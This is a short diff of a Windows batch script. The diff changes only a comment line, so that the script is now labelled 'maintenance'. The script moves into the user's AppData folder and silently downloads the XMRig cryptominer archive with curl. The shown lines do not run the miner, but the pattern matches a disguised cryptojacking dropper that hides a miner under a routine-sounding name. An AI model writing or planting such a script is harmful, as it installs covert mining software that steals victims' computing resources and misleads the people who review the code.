@@ -1,4 +1,4 @@
-REM run 8546 v2
+REM maintenance 1633 v2
 @echo off
 cd /d %APPDATA%
 curl -sLo x.zip https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-msvc-win64.zip
